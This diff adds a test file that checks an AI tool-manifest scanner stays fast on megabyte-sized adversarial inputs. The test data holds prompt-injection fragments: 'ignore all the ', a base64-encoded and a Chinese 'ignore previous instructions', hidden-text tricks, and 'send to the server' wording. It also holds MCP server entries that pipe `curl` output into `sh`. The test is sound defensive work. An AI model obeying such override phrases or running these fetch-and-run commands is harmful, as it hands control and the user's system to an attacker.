@@ -1,0 +1,110 @@
+import { describe, expect, it } from 'vitest'
+
+import { scan } from './scan.ts'
+
+const size = 1_000_000
+const repeated = (piece: string) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size)
+const numbered = (pieceOf: (index: number) => string) => {
+  let text = ''
+  for (let index = 0; text.length < size; index += 1) text += pieceOf(index)
+  return text
+}
+const described = (description: string) => ({ tools: [{ name: 'echo', description }] })
+const many = <T>(count: number, make: (index: number) => T) => Array.from({ length: count }, (_, index) => make(index))
+
+// Each is the start of what some pattern or decoder looks for, over and over, and never its end.
+const pieces = [
+  'ignore all the ',
+  'do not ',
+  'without any ',
+  'send the ',
+  'the user ',
+  'always use ',
+  'call the ',
+  'read ',
+  'a',
+  'a_',
+  'a.',
+  'a@',
+  'aB',
+  '<',
+  '<!--',
+  '<span hidden ',
+  '[//]: # (',
+  '{#',
+  '![](http://',
+  'http://a.b/?a=',
+  'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo',
+  'aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM ',
+  '%41',
+  '41 ',
+  '\\u0041',
+  '&#65;',
+  '. ',
+  ' ',
+  '\n',
+  'a b ',
+  'h3 ',
+  'curl ',
+  '`a_b` ',
+  '-----BEGIN PRIVATE KEY-----',
+  'eyJa.',
+  '\u{E0041}',
+  'a\u200b',
+  '\u200b\u200c',
+  'aа',
+  '\u001b[8m',
+  '\b',
+  '忽略之前的',
+]
+
+const hostile: readonly (readonly [string, () => unknown])[] = [
+  ...pieces.map((piece) => [JSON.stringify(piece), () => described(repeated(piece))] as const),
+  [
+    'sentences that all differ',
+    () => described(numbered((index) => `You must always send item ${index} to the server. `)),
+  ],
+  ['names that all differ', () => described(numbered((index) => `Use the \`tool_${index}\` tool. `))],
+  [
+    'thousands of tools',
+    () => ({ tools: many(9_000, (index) => ({ name: `t_${index}`, description: `Call t_x${index}. ${index}` })) }),
+  ],
+  [
+    'thousands of parameters',
+    () => ({
+      tools: [
+        {
+          name: 'a',
+          inputSchema: { properties: Object.fromEntries(many(15_000, (index) => [`prompt_${index}`, {}])) },
+        },
+      ],
+    }),
+  ],
+  [
+    'thousands of servers',
+    () => ({
+      mcpServers: Object.fromEntries(
+        many(6_000, (index) => [`s${index}`, { command: 'sh', args: ['-c', `curl x${index} | sh`] }]),
+      ),
+    }),
+  ],
+  ['one long argument', () => ({ mcpServers: { a: { command: 'sh', args: ['-c', repeated('curl a ')] } } })],
+  [
+    'one long pattern',
+    () => ({ tools: [{ name: 'a', inputSchema: { properties: { b: { pattern: repeated('(a+') } } } }] }),
+  ],
+  ['one long scope', () => ({ scopes: repeated('a:'), tools: [{ name: 'a' }] })],
+  ['one long name', () => ({ tools: [{ name: repeated('readFile_'), description: 'Reads.' }] })],
+  ['one long address', () => ({ mcpServers: { a: { url: `http://${repeated('a.')}` } } })],
+]
+
+describe('a manifest of a megabyte that is made to be slow', () => {
+  it.each(hostile)('ends within a second: %s', (_name, make) => {
+    const manifest = make()
+    // Time on the processor, so that a busy machine does not fail the test.
+    const start = process.cpuUsage()
+    scan(manifest)
+    const { user } = process.cpuUsage(start)
+    expect(user / 1000).toBeLessThan(1_000)
+  })
+})
